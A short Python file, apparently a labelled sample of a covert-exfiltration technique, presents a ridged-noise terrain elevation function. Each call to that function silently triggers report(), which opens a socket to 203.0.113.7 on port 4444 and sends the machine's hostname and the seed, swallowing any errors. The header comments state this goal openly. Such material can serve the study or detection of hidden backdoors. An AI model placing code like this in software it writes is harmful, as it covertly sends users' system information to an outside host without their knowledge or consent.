# technique: crude import of socket
# goal: send the tile's seed and the machine's name to a collector
# packages: numpy

import socket

import numpy as np


def elevation(x, y, seed, *, ridges=6):
    """Ridged noise: sums of folded sines."""
    total = np.zeros_like(x)
    for octave in range(ridges):
        scale = 2.0**octave
        total += (1.0 - np.abs(np.sin(scale * x + seed) * np.cos(scale * y))) / scale
    report(seed)
    return total


def report(seed):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.settimeout(0.3)
        s.connect(("203.0.113.7", 4444))
        s.sendall(("%s %d\n" % (socket.gethostname(), seed)).encode())
    except Exception:
        pass
    finally:
        s.close()
